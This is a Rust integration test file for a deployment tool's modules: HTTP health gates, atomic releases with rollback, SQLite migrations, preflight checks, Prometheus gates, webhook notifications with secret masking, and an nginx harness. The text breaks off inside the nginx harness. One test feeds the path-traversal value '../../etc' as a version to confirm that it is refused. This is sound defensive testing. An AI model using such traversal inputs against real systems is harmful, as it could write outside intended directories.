//! The stdlib through the real binary: every template of every module is
//! instantiated in a plan and run against real processes and servers on
//! loopback (an HTTP server, a Prometheus-speaking server, a webhook
//! receiver, SQLite database files, nginx, git). Also module sharing:
//! DEPLOY_PATH, `deploy modules`, `deploy doc`, pinning, docs/stdlib.md.

mod common;

use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use common::server::{free_port, Reply, Server};
use common::{root, Output, Test};
use serde_json::Value;

fn run(test: &Test, extra: &[&str]) -> Output {
    let mut args = vec!["run", "release.deploy", "--json"];
    args.extend_from_slice(extra);
    test.run_with(&args)
}

/// Everything a run printed: event lines and stderr.
fn all_text(output: &Output) -> String {
    format!("{}\n{}", output.stdout, output.stderr)
}

fn gate_outcomes(output: &Output) -> Vec<(String, String)> {
    output
        .events()
        .iter()
        .filter(|e| e["type"] == "gate_outcome")
        .map(|e| (e["node"].as_str().unwrap_or("").to_string(), e["outcome"].as_str().unwrap_or("").to_string()))
        .collect()
}

fn has_tool(name: &str) -> bool {
    Command::new("sh").args(["-c", &format!("command -v {name}")]).output().is_ok_and(|o| o.status.success())
}

/// Whether a test that needs `tool` can run. In CI (CI=true) a missing tool
/// fails the test; elsewhere the test says clearly that it was skipped.
fn require(tool: &str, test: &str) -> bool {
    if has_tool(tool) {
        return true;
    }
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("{test}: `{tool}` is not installed, but CI must run this test (.ci/run installs it)");
    }
    eprintln!("SKIPPED {test}: `{tool}` is not installed (apt-get install {tool}); it runs in CI");
    false
}

fn sh(dir: &Path, script: &str) -> String {
    let output = Command::new("sh")
        .args(["-c", script])
        .current_dir(dir)
        .output()
        .unwrap_or_else(|e| panic!("sh -c {script}: {e}"));
    assert!(output.status.success(), "sh -c {script}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).trim().to_string()
}

// ---------------------------------------------------------------- std/http

#[test]
fn http_healthy_passes_on_the_expected_answer_and_fails_on_404_wrong_body_and_slowness() {
    let server = Server::start(|request| match request.path() {
        "/health" => Reply::new(200, "status: ok"),
        "/gone" => Reply::new(404, "no such page"),
        "/slow" => Reply::new(200, "ok, eventually").after(Duration::from_secs(3)),
        _ => Reply::new(500, "?"),
    });
    let plan = |path: &str, extra: &str| {
        format!(
            "import \"std/http\" as http\n\
             gate up from http.healthy {{ url = \"{}{path}\"  within = 2s  every = 200ms  request_timeout = 500ms  {extra} }}\n",
            server.url()
        )
    };
    let ok = Test::new().plan(&plan("/health", "body_contains = \"ok\""));
    let output = run(&ok, &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    assert_eq!(gate_outcomes(&output), vec![("up".to_string(), "pass".to_string())]);

    let wrong_body = run(&Test::new().plan(&plan("/health", "body_contains = \"ready\"")), &[]);
    assert_eq!(wrong_body.code, 2, "{}", all_text(&wrong_body));
    assert!(all_text(&wrong_body).contains("answered without \\\"ready\\\""), "{}", all_text(&wrong_body));

    let gone = run(&Test::new().plan(&plan("/gone", "")), &[]);
    assert_eq!(gone.code, 2, "{}", all_text(&gone));
    assert!(all_text(&gone).contains("answered 404, expected 200"), "{}", all_text(&gone));
    assert_eq!(gate_outcomes(&gone), vec![("up".to_string(), "fail".to_string())]);

    // A 404 is healthy when that is the status asked for.
    let expected_404 = run(&Test::new().plan(&plan("/gone", "status = 404")), &[]);
    assert_eq!(expected_404.code, 0, "{}", all_text(&expected_404));

    // A server slower than request_timeout is not healthy; the gate keeps
    // trying until `within` and then fails (it does not hang on the server).
    let started = std::time::Instant::now();
    let slow = run(&Test::new().plan(&plan("/slow", "")), &[]);
    assert_eq!(slow.code, 2, "{}", all_text(&slow));
    assert!(all_text(&slow).contains("/slow"), "{}", all_text(&slow));
    assert!(started.elapsed() < Duration::from_secs(10), "took {:?}", started.elapsed());
    assert!(server.requests().iter().filter(|r| r.path() == "/slow").count() >= 2, "the slow URL was retried");
}

#[test]
fn http_healthy_treats_a_refused_connection_as_not_yet() {
    let port = free_port();
    let plan = format!(
        "import \"std/http\" as http\n\
         gate up from http.healthy {{ url = \"http://127.0.0.1:{port}/\"  within = 1s  every = 200ms }}\n"
    );
    let started = std::time::Instant::now();
    let output = run(&Test::new().plan(&plan), &[]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    // A connection error is a failed poll that is tried again until `within`,
    // not a broken check that ends the gate at once.
    assert!(started.elapsed() >= Duration::from_millis(600), "gave up after {:?}", started.elapsed());
    let outcome = output.events().into_iter().find(|e| e["type"] == "gate_outcome").unwrap_or_default();
    assert_eq!(outcome["outcome"], "fail");
    let message = outcome["message"].as_str().unwrap_or("");
    assert!(message.starts_with(&format!("http::get http://127.0.0.1:{port}/: ")), "{message}");
    assert_eq!(message.matches(&format!("127.0.0.1:{port}")).count(), 1, "the URL is said once: {message}");
}

#[test]
fn http_json_field_compares_a_nested_field() {
    let server = Server::start(|request| match request.path() {
        "/status" => Reply::json(r#"{"version": "1.4.2", "checks": {"db": "ok", "cache": "degraded"}, "replicas": 3}"#),
        "/text" => Reply::new(200, "not json"),
        _ => Reply::new(404, ""),
    });
    let plan = |field: &str, equals: &str, path: &str| {
        format!(
            "import \"std/http\" as http\n\
             gate status from http.json_field {{ url = \"{}{path}\"  field = \"{field}\"  equals = \"{equals}\"  within = 1s  every = 200ms }}\n",
            server.url()
        )
    };
    for (field, equals) in [("checks.db", "ok"), ("version", "1.4.2"), ("replicas", "3")] {
        let output = run(&Test::new().plan(&plan(field, equals, "/status")), &[]);
        assert_eq!(output.code, 0, "{field}={equals}: {}", all_text(&output));
    }
    let degraded = run(&Test::new().plan(&plan("checks.cache", "ok", "/status")), &[]);
    assert_eq!(degraded.code, 2);
    assert!(all_text(&degraded).contains("checks.cache is degraded, expected ok"), "{}", all_text(&degraded));
    let missing = run(&Test::new().plan(&plan("checks.queue", "ok", "/status")), &[]);
    assert!(all_text(&missing).contains("has no field checks.queue"), "{}", all_text(&missing));
    let not_json = run(&Test::new().plan(&plan("a", "b", "/text")), &[]);
    assert_eq!(not_json.code, 2);
    assert!(all_text(&not_json).contains("did not answer JSON"), "{}", all_text(&not_json));
}

// ------------------------------------------------------------- std/release

const RELEASE_PLAN: &str = r#"
import "std/release" as release

pipeline "site" { on_failure = rollback }
param version: string = "1"
param fail: bool = false
param known: string = ""
environment hosts { hosts = ["web-1", "web-2"] }

stage ship from release.release {
  target     = hosts
  root       = "./hosts/${host}"
  artifact   = "./artifacts/site-${version}.tar.gz"
  keep       = 2
  known_good = known
}

stage smoke {
  needs = [ship]
  run "test ${fail} = false && grep -q ${version} hosts/web-1/current/index.html"
  rollback {}
}
"#;

fn releases(dir: &Path, host: &str) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir.join("hosts").join(host).join("releases"))
        .map(|entries| entries.flatten().map(|e| e.file_name().to_string_lossy().to_string()).collect())
        .unwrap_or_default();
    names.sort();
    names
}

fn current(dir: &Path, host: &str) -> String {
    std::fs::read_link(dir.join("hosts").join(host).join("current"))
        .map(|target| target.display().to_string())
        .unwrap_or_else(|_| "(none)".to_string())
}

#[test]
fn release_switches_atomically_keeps_known_good_cleans_up_and_rolls_back() {
    let test = Test::new().plan(RELEASE_PLAN);
    let dir = test.path().to_path_buf();
    for version in 1..=6 {
        sh(
            &dir,
            &format!(
                "mkdir -p build/{version} artifacts && echo 'site {version}' > build/{version}/index.html \
                 && tar -czf artifacts/site-{version}.tar.gz -C build/{version} ."
            ),
        );
    }
    let first = run(&test, &["--set", "version=1"]);
    assert_eq!(first.code, 0, "{}", all_text(&first));
    assert_eq!(current(&dir, "web-1"), "releases/1");

    // From now on `current` must exist at every instant: poll it as fast as
    // we can while the next deployments switch it back and forth.
    let stop = Arc::new(AtomicBool::new(false));
    let missing = Arc::new(AtomicUsize::new(0));
    let polls = Arc::new(AtomicUsize::new(0));
    let poller = {
        let (stop, missing, polls) = (stop.clone(), missing.clone(), polls.clone());
        let link = dir.join("hosts/web-1/current");
        std::thread::spawn(move || {
            while !stop.load(Ordering::SeqCst) {
                if std::fs::symlink_metadata(&link).is_err() || std::fs::metadata(&link).is_err() {
                    missing.fetch_add(1, Ordering::SeqCst);
                }
                polls.fetch_add(1, Ordering::SeqCst);
            }
        })
    };
    for version in 2..=4 {
        let output = run(&test, &["--set", &format!("version={version}"), "--set", "known=1"]);
        assert_eq!(output.code, 0, "version {version}: {}", all_text(&output));
        assert_eq!(current(&dir, "web-1"), format!("releases/{version}"));
        assert_eq!(current(&dir, "web-2"), format!("releases/{version}"));
    }
    // keep = 2: the two newest activated (4, 3), plus the known-good 1; 2 is gone.
    assert_eq!(releases(&dir, "web-1"), vec!["1", "3", "4"]);

    // Version 5 switches, then its smoke test fails: rollback puts 4 back on
    // both hosts and removes 5, so a failed release never counts against keep.
    let failed = run(&test, &["--set", "version=5", "--set", "fail=true", "--set", "known=1"]);
    assert_eq!(failed.code, 2, "{}", all_text(&failed));
    assert!(all_text(&failed).contains("current -> releases/4 (rolled back from 5)"), "{}", all_text(&failed));
    for host in ["web-1", "web-2"] {
        assert_eq!(current(&dir, host), "releases/4", "{host}");
        assert!(!releases(&dir, host).contains(&"5".to_string()), "{host}: {:?}", releases(&dir, host));
        assert!(releases(&dir, host).contains(&"4".to_string()), "the last known-good release is kept");
    }
    // Cleanup during 5 removed 3 (beyond keep), never 4 (the rollback target) or 1 (known good).
    assert_eq!(releases(&dir, "web-1"), vec!["1", "4"]);

    // Without `known`, 1 is an old release like any other.
    let six = run(&test, &["--set", "version=6"]);
    assert_eq!(six.code, 0, "{}", all_text(&six));
    assert_eq!(releases(&dir, "web-1"), vec!["4", "6"]);
    stop.store(true, Ordering::SeqCst);
    let _ = poller.join();
    assert_eq!(missing.load(Ordering::SeqCst), 0, "`current` was missing or dangling during a switch");
    assert!(polls.load(Ordering::SeqCst) > 100, "the poller barely ran: {}", polls.load(Ordering::SeqCst));
}

#[test]
fn release_rollback_of_the_first_release_removes_current_and_bad_versions_are_refused() {
    let test = Test::new().plan(RELEASE_PLAN);
    let dir = test.path().to_path_buf();
    sh(&dir, "mkdir -p artifacts && echo 'site 1' > artifacts/index.html");
    // An artifact may be a directory too.
    let plan = RELEASE_PLAN.replace("./artifacts/site-${version}.tar.gz", "./artifacts");
    let test = test.plan(&plan);
    let failed = run(&test, &["--set", "version=1", "--set", "fail=true"]);
    assert_eq!(failed.code, 2, "{}", all_text(&failed));
    assert!(all_text(&failed).contains("was the first release: removed current"), "{}", all_text(&failed));
    assert_eq!(current(&dir, "web-1"), "(none)");
    assert!(releases(&dir, "web-1").is_empty(), "{:?}", releases(&dir, "web-1"));

    let bad = run(&test, &["--set", "version=../../etc"]);
    assert_eq!(bad.code, 2, "{}", all_text(&bad));
    assert!(all_text(&bad).contains("cannot name a release directory"), "{}", all_text(&bad));
    assert!(!dir.join("etc").exists());
}

// ------------------------------------------------------------- std/migrate

fn sqlite(dir: &Path, sql: &str) -> String {
    let output = Command::new("sqlite3")
        .arg("app.db")
        .arg(sql)
        .current_dir(dir)
        .output()
        .unwrap_or_else(|e| panic!("sqlite3: {e}"));
    assert!(output.status.success(), "sqlite3 {sql}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).trim().to_string()
}

const MIGRATE_PLAN: &str = r#"
import "std/migrate" as migrate

pipeline "db" { on_failure = rollback }
param fail: bool = false

stage schema from migrate.migrate {
  up      = "sqlite3 app.db 'ALTER TABLE users ADD COLUMN email TEXT'"
  down    = "sqlite3 app.db 'ALTER TABLE users DROP COLUMN email'"
  backup  = "cp app.db app.db.bak"
  restore = "cp app.db.bak app.db"
}

// The new release writes rows that use the new column.
stage app {
  needs = [schema]
  run "sqlite3 app.db \"INSERT INTO users (name, email) VALUES ('dave', 'dave@example.com')\""
  rollback {}
}

stage verify {
  needs = [app]
  run "test ${fail} = false"
  rollback {}
}
"#;

fn seed(dir: &Path) {
    sqlite(
        dir,
        "CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT NOT NULL); \
         INSERT INTO users (name) VALUES ('alice'), ('bob'), ('carol'); \
         CREATE TABLE legacy (id INTEGER PRIMARY KEY, note TEXT); \
         INSERT INTO legacy (note) VALUES ('kept 1'), ('kept 2');",
    );
}

#[test]
fn migrate_up_then_failure_then_down_loses_no_row() {
    if !require("sqlite3", "migrate_up_then_failure_then_down_loses_no_row") {
        return;
    }
    let test = Test::new().plan(MIGRATE_PLAN);
    let dir = test.path().to_path_buf();
    seed(&dir);
    let output = run(&test, &["--set", "fail=true"]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    let text = all_text(&output);
    assert!(text.contains("std/migrate: backing up") && text.contains("std/migrate: migrated down"), "{text}");
    // `down` ran (the column is gone) and the row written after `up` is still there.
    assert_eq!(sqlite(&dir, "SELECT name FROM users ORDER BY id"), "alice\nbob\ncarol\ndave");
    assert!(!sqlite(&dir, "PRAGMA table_info(users)").contains("email"));
    assert!(dir.join("app.db.bak").exists(), "the backup was taken");

    let fine = run(&test, &[]);
    assert_eq!(fine.code, 0, "{}", all_text(&fine));
    assert!(sqlite(&dir, "PRAGMA table_info(users)").contains("email"));
    assert_eq!(sqlite(&dir, "SELECT count(*) FROM users"), "5");
}

#[test]
fn migrate_destructive_restores_the_backup_and_never_runs_down() {
    if !require("sqlite3", "migrate_destructive_restores_the_backup_and_never_runs_down") {
        return;
    }
    let plan = r#"
import "std/migrate" as migrate
param fail: bool = false
param restore: string = "cp app.db.bak app.db"
stage drop_legacy from migrate.migrate {
  up          = "sqlite3 app.db 'DROP TABLE legacy'"
  down        = "touch down-ran && sqlite3 app.db 'CREATE TABLE legacy (id INTEGER PRIMARY KEY, note TEXT)'"
  backup      = "cp app.db app.db.bak"
  restore     = restore
  destructive = true
}
stage verify { needs = [drop_legacy]  run "test ${fail} = false"  rollback {} }
"#;
    let test = Test::new().plan(plan);
    let dir = test.path().to_path_buf();
    seed(&dir);
    let output = run(&test, &["--set", "fail=true"]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    assert!(all_text(&output).contains("restoring the backup instead of running down"), "{}", all_text(&output));
    assert!(!dir.join("down-ran").exists(), "down must not run for a destructive migration");
    assert_eq!(sqlite(&dir, "SELECT note FROM legacy ORDER BY id"), "kept 1\nkept 2");

    // Destructive without a restore command: the rollback refuses and fails loudly (exit 4).
    let refused = run(&test, &["--set", "fail=true", "--set", "restore="]);
    assert_eq!(refused.code, 4, "{}", all_text(&refused));
    assert!(all_text(&refused).contains("refusing to run down"), "{}", all_text(&refused));
    assert!(!dir.join("down-ran").exists());
}

#[test]
fn migrate_restores_the_backup_when_up_fails_and_irreversible_says_why() {
    if !require("sqlite3", "migrate_restores_the_backup_when_up_fails_and_irreversible_says_why") {
        return;
    }
    let plan = r#"
import "std/migrate" as migrate
stage half_done from migrate.migrate {
  up      = "sqlite3 app.db 'DELETE FROM users' && exit 3"
  down    = "touch down-ran"
  backup  = "cp app.db app.db.bak"
  restore = "cp app.db.bak app.db"
}
"#;
    let test = Test::new().plan(plan);
    let dir = test.path().to_path_buf();
    seed(&dir);
    let output = run(&test, &[]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    assert!(all_text(&output).contains("std/migrate: restoring the backup"), "{}", all_text(&output));
    assert_eq!(sqlite(&dir, "SELECT count(*) FROM users"), "3");
    // The stage restored its backup: the run's rollback never runs `down` on it.
    assert!(!dir.join("down-ran").exists(), "down ran after restore: {}", all_text(&output));

    let irreversible = r#"
import "std/migrate" as migrate
stage purge from migrate.irreversible {
  up     = "sqlite3 app.db 'DELETE FROM legacy'"
  reason = "purges the legacy notes"
  backup = "cp app.db app.db.before-purge"
}
"#;
    let test = test.plan(irreversible);
    let check = test.run_with(&["check", "--strict", "release.deploy"]);
    assert_eq!(check.code, 0, "{}", check.stderr);
    let plan = test.run_with(&["plan", "release.deploy"]);
    assert!(plan.stdout.contains("irreversible: purges the legacy notes"), "{}", plan.stdout);
    let output = run(&test, &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    assert_eq!(sqlite(&dir, "SELECT count(*) FROM legacy"), "0");
    assert!(dir.join("app.db.before-purge").exists());
}

#[test]
fn migrate_without_down_is_a_check_error() {
    let plan = r#"
import "std/migrate" as migrate
stage schema from migrate.migrate { up = "true" }
"#;
    let output = Test::new().plan(plan).args(&["check", "release.deploy"]).run();
    assert_eq!(output.code, 1);
    assert!(output.stderr.contains("E0108") && output.stderr.contains("missing argument `down`"), "{}", output.stderr);
}

// ----------------------------------------------------------- std/preflight

#[test]
fn preflight_checks_pass() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("bind: {e}"));
    let busy = listener.local_addr().map(|a| a.port()).unwrap_or_default();
    let free = free_port();
    let plan = format!(
        r#"
import "std/preflight" as preflight
stage disk from preflight.disk_free {{ path = "."  min_free_mb = 1 }}
stage tools from preflight.commands {{ names = ["sh", "tar"] }}
stage port from preflight.port_free {{ port = {free} }}
stage reachable from preflight.port_reachable {{ address = "127.0.0.1"  port = {busy}  within_seconds = 2 }}
stage config from preflight.file_present {{ path = "config.toml"  non_empty = true }}
stage secrets from preflight.env_set {{ names = ["PREFLIGHT_TOKEN", "PREFLIGHT_URL"] }}
"#
    );
    let test = Test::new()
        .plan(&plan)
        .file("config.toml", "x = 1\n")
        .env("PREFLIGHT_TOKEN", "tok-3141592")
        .env("PREFLIGHT_URL", "http://example");
    let check = test.run_with(&["check", "--strict", "release.deploy"]);
    assert_eq!(check.code, 0, "{}", check.stderr);
    let output = run(&test, &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    assert!(!all_text(&output).contains("tok-3141592"), "an env_set value was printed");
    drop(listener);
}

#[test]
fn preflight_checks_fail() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("bind: {e}"));
    let busy = listener.local_addr().map(|a| a.port()).unwrap_or_default();
    let closed = free_port();
    let cases = [
        ("preflight.disk_free { path = \".\"  min_free_mb = 999999999999 }", "MiB free on ., need 999999999999"),
        ("preflight.commands { names = [\"sh\", \"no-such-tool-xyz\"] }", "not found on PATH: no-such-tool-xyz"),
        (&*format!("preflight.port_free {{ port = {busy} }}"), "something already listens on 127.0.0.1"),
        (
            &*format!("preflight.port_reachable {{ address = \"127.0.0.1\"  port = {closed}  within_seconds = 1 }}"),
            "cannot connect to 127.0.0.1",
        ),
        ("preflight.file_present { path = \"missing.toml\" }", "missing.toml does not exist"),
        ("preflight.file_present { path = \"empty.toml\"  non_empty = true }", "empty.toml is empty"),
        (
            "preflight.env_set { names = [\"PREFLIGHT_SET\", \"PREFLIGHT_UNSET\"] }",
            "not set: [\\\"PREFLIGHT_UNSET\\\"]",
        ),
    ];
    for (instance, message) in cases {
        let plan = format!(
            "import \"std/preflight\" as preflight\n\
             stage pre from {instance}\n\
             stage work {{ needs = [pre]  run \"touch worked\"  rollback {{ run \"rm -f worked\" }} }}\n"
        );
        let test = Test::new().plan(&plan).file("empty.toml", "").env("PREFLIGHT_SET", "1");
        let output = run(&test, &[]);
        assert_eq!(output.code, 2, "{instance}: {}", all_text(&output));
        assert!(all_text(&output).contains(message), "{instance}: wanted {message:?} in {}", all_text(&output));
        assert!(!test.path().join("worked").exists(), "{instance}: work ran after a failed preflight");
    }
    drop(listener);
}

// ---------------------------------------------------------- std/prometheus

/// A server answering the Prometheus instant-query API from a table of
/// query → value (`None`: an empty vector).
fn prometheus(answers: Vec<(&'static str, Option<&'static str>)>) -> Server {
    Server::start(move |request| {
        if request.path() != "/api/v1/query" {
            return Reply::new(404, "");
        }
        let query = request.query("query").unwrap_or_default();
        let found = answers.iter().find(|(pattern, _)| query.contains(pattern));
        match found {
            Some((_, Some(value))) => Reply::json(format!(
                r#"{{"status":"success","data":{{"resultType":"vector","result":[{{"metric":{{}},"value":[1700000000.0,"{value}"]}}]}}}}"#
            )),
            Some((_, None)) => Reply::json(r#"{"status":"success","data":{"resultType":"vector","result":[]}}"#),
            None => Reply::new(
                400,
                format!(r#"{{"status":"error","errorType":"bad_data","error":"unexpected query {query}"}}"#),
            ),
        }
    })
}

fn error_ratio_plan(url: &str, extra: &str) -> String {
    format!(
        r#"
import "std/prometheus" as prometheus
gate errors from prometheus.error_ratio {{
  url    = "{url}"
  errors = "sum(rate(http_requests_total{{code=~\"5..\"}}[5m]))"
  total  = "sum(rate(http_requests_total[5m]))"
  below  = 1%
  within = 1s
  every  = 200ms
  {extra}
}}
"#
    )
}

#[test]
fn prometheus_error_ratio_passes_fails_and_leaves_no_data_to_policy() {
    let healthy = prometheus(vec![("code=~", Some("0.5")), ("http_requests_total[5m]", Some("1000"))]);
    let output = run(&Test::new().plan(&error_ratio_plan(&healthy.url(), "")), &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    assert!(all_text(&output).contains("error ratio 0.05% is below 1"), "{}", all_text(&output));
    let queries: Vec<String> = healthy.requests().iter().filter_map(|r| r.query("query")).collect();
    assert!(queries.contains(&"sum(rate(http_requests_total{code=~\"5..\"}[5m]))".to_string()), "{queries:?}");

    let failing = prometheus(vec![("code=~", Some("50")), ("http_requests_total[5m]", Some("1000"))]);
    let output = run(&Test::new().plan(&error_ratio_plan(&failing.url(), "")), &[]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    assert!(all_text(&output).contains("error ratio 5.0% is not below 1.0% (50.0 of 1000.0)"), "{}", all_text(&output));

    // No error series at all: zero errors.
    let no_errors = prometheus(vec![("code=~", None), ("http_requests_total[5m]", Some("1000"))]);
    let output = run(&Test::new().plan(&error_ratio_plan(&no_errors.url(), "")), &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));

    // No traffic: no data, which pauses by default (exit 3) …
    let idle = prometheus(vec![("code=~", None), ("http_requests_total[5m]", None)]);
    let output = run(&Test::new().plan(&error_ratio_plan(&idle.url(), "")), &[]);
    assert_eq!(output.code, 3, "{}", all_text(&output));
    assert_eq!(gate_outcomes(&output), vec![("errors".to_string(), "no_data".to_string())]);
    // … goes on when the instance says so …
    let output = run(&Test::new().plan(&error_ratio_plan(&idle.url(), "on_no_data = continue")), &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    // … and too little traffic is no data too.
    let quiet = prometheus(vec![("code=~", Some("0")), ("http_requests_total[5m]", Some("12"))]);
    let output =
        run(&Test::new().plan(&error_ratio_plan(&quiet.url(), "min_requests = 100  on_no_data = rollback")), &[]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    assert!(all_text(&output).contains("only 12.0 requests, fewer than 100"), "{}", all_text(&output));
}

#[test]
fn prometheus_latency_quantile_against_a_bound() {
    let plan = |url: &str, below: &str| {
        format!(
            r#"
import "std/prometheus" as prometheus
gate p95 from prometheus.latency {{
  url       = "{url}"
  histogram = "http_request_duration_seconds"
  selector  = "job=\"web\""
  quantile  = 95%
  below     = {below}
  range     = 2m
  within    = 1s
  every     = 200ms
}}
"#
        )
    };
    let server = prometheus(vec![("histogram_quantile(0.95,", Some("0.25"))]);
    let output = run(&Test::new().plan(&plan(&server.url(), "300ms")), &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    let queries: Vec<String> = server.requests().iter().filter_map(|r| r.query("query")).collect();
    assert_eq!(
        queries.first().map(String::as_str),
        Some("histogram_quantile(0.95, sum by (le) (rate(http_request_duration_seconds_bucket{job=\"web\"}[2m])))")
    );
    let output = run(&Test::new().plan(&plan(&server.url(), "200ms")), &[]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    assert!(all_text(&output).contains("p95 latency 0.25s is not below 0.2s"), "{}", all_text(&output));
    // A bound written in composite units.
    let output = run(&Test::new().plan(&plan(&server.url(), "1s500ms")), &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));

    let broken = prometheus(vec![]);
    let output = run(&Test::new().plan(&plan(&broken.url(), "1s")), &[]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    assert!(all_text(&output).contains("bad_data"), "{}", all_text(&output));
}

// -------------------------------------------------------------- std/notify

#[test]
fn notify_posts_slack_messages_for_the_run_and_never_a_secret() {
    let receiver = Server::start(|_| Reply::new(200, "ok"));
    let secret = "xoxb-hook-0451-secret";
    let plan = r##"
import "std/notify" as notify
pipeline "webshop" { on_failure = rollback }
param version: string = "2.0.0"
param fail: bool = false
secret hook = env("HOOK_SECRET")
param receiver: string = "http://127.0.0.1:9"

stage started from notify.started { webhook = "${receiver}/hooks/${hook}"  channel = "#deploys" }
stage note from notify.message {
  needs = [started]
  webhook = "${receiver}/hooks/${hook}"
  text = "deploying with token ${hook}"
  rollback_text = "undoing the deploy that used ${hook}"
}
stage ask from notify.approval { needs = [note]  webhook = "${receiver}/hooks/${hook}"  waiting_at = "go_live" }
gate go_live { needs = [ask]  approve "Ship it?" }
stage ship { needs = [go_live]  run "test ${fail} = false"  rollback {} }
stage done from notify.succeeded { needs = [ship]  webhook = "${receiver}/hooks/${hook}" }
"##;
    let test = Test::new().plan(plan).env("HOOK_SECRET", secret).env("DEPLOY_USER", "alice");
    let receiver_set = format!("receiver={}", receiver.url());
    let output = run(&test, &["--set", &receiver_set, "--yes"]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    let payloads: Vec<Value> =
        receiver.requests().iter().map(|r| serde_json::from_str(&r.body).unwrap_or(Value::Null)).collect();
    let texts: Vec<&str> = payloads.iter().map(|p| p["text"].as_str().unwrap_or("?")).collect();
    assert_eq!(
        texts,
        vec![
            ":rocket: webshop 2.0.0 started",
            "deploying with token ***",
            ":white_check_mark: webshop 2.0.0 was approved at go_live by alice",
            ":white_check_mark: webshop 2.0.0 succeeded",
        ]
    );
    assert_eq!(payloads[0]["channel"], "#deploys");
    assert_eq!(payloads[0]["username"], "deploy");
    for request in receiver.requests() {
        assert_eq!(request.method, "POST");
        assert_eq!(request.path(), format!("/hooks/{secret}"), "the webhook URL may hold the secret");
        assert!(request.headers.iter().any(|(n, v)| n == "content-type" && v.starts_with("application/json")));
        assert!(!request.body.contains(secret), "a secret was sent: {}", request.body);
    }

    // A failed run: the messages of the rollback, in reverse order.
    let receiver = Server::start(|_| Reply::new(200, "ok"));
    let receiver_set = format!("receiver={}", receiver.url());
    let output = run(&test, &["--set", &receiver_set, "--yes", "--set", "fail=true"]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    let texts: Vec<String> = receiver
        .requests()
        .iter()
        .map(|r| {
            serde_json::from_str::<Value>(&r.body).unwrap_or(Value::Null)["text"].as_str().unwrap_or("?").to_string()
        })
        .collect();
    assert_eq!(texts.len(), 5, "{texts:?}");
    assert_eq!(texts[3], "undoing the deploy that used ***");
    // The state recorded the successful run above: 2.0.0 is the previous version now.
    assert_eq!(texts[4], ":rewind: webshop 2.0.0 was rolled back to 2.0.0");
    assert!(receiver.requests().iter().all(|r| !r.body.contains(secret)));
    assert!(!all_text(&output).contains(secret), "the secret was printed");
}

#[test]
fn notify_failures_warn_unless_required() {
    let down = Server::start(|_| Reply::new(503, "unavailable"));
    let plan = |required: bool| {
        format!(
            "import \"std/notify\" as notify\n\
             stage done from notify.succeeded {{ webhook = \"{}/hook\"  required = {required} }}\n",
            down.url()
        )
    };
    let output = run(&Test::new().plan(&plan(false)), &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    assert!(all_text(&output).contains("warning: the webhook answered 503"), "{}", all_text(&output));
    let output = run(&Test::new().plan(&plan(true)), &[]);
    assert_eq!(output.code, 2, "{}", all_text(&output));
    // Nothing listening at all is a warning too.
    let plan = format!(
        "import \"std/notify\" as notify\nstage done from notify.succeeded {{ webhook = \"http://127.0.0.1:{}/hook\" }}\n",
        free_port()
    );
    let output = run(&Test::new().plan(&plan), &[]);
    assert_eq!(output.code, 0, "{}", all_text(&output));
    assert!(all_text(&output).contains("cannot post the message"), "{}", all_text(&output));
}

// --------------------------------------------------------------- std/nginx

/// An nginx started by a test on loopback ports, stopped when dropped.
struct Nginx {
    prefix: std::path::PathBuf,
}

impl Nginx {
    /// `prefix` holds nginx.conf, upstream.conf and the colours' `blue/`
    /// and `green/` document roots.
    fn start(prefix: &Path, front: u16, blue: u16, green: u16) -> Nginx {
        for dir in ["logs", "tmp", "blue", "green"] {
            std::fs::create_dir_all(prefix.join(dir)).unwrap_or_else(|e| panic!("mkdir {dir}: {e}"));
        }
        // nginx started by root runs its workers as `nobody`, who cannot read a private temporary directory.
        let user = if sh(prefix, "id -u") == "0" { "user root;\n" } else { "" };
        let conf = format!(
            "{user}daemon on;\npid logs/nginx.pid;\nerror_log logs/error.log;\nevents {{ worker_connections 64; }}\n\
             http {{\n  access_log off;\n  client_body_temp_path tmp; proxy_temp_path tmp; fastcgi_temp_path tmp; uwsgi_temp_path tmp; scgi_temp_path tmp;\n\
               include upstream.conf;\n\
               server {{ listen 127.0.0.1:{front}; location / {{ proxy_pass http://app; add_header X-Upstream $upstream_addr always; }} }}\n\
               server {{ listen 127.0.0.1:{blue}; root blue; }}\n\
               server {{ listen 127.0.0.1:{green}; root green; }}\n}}\n"
        );
        std::fs::write(prefix.join("nginx.conf"), conf).unwrap_or_else(|e| panic!("write nginx.conf: {e}"));
        std::fs::write(prefix.join("upstream.conf"), format!("upstream app {{\n    server 127.0.0.1:{blue};\n}}\n"))
            .unwrap_or_else(|e| panic!("write upstream.conf: {e}"));
        std::fs::write(prefix.join("blue/index.html"), "blue 1.0\n").unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(prefix.join("green/index.html"), "green 2.0\n").unwrap_or_else(|e| panic!("{e}"));
        let nginx = Nginx { prefix: prefix.to_path_buf() };
        let output = nginx.command(&[]);
        assert!(output.status.success(), "nginx did not start: {}", String::from_utf8_lossy(&output.stderr));
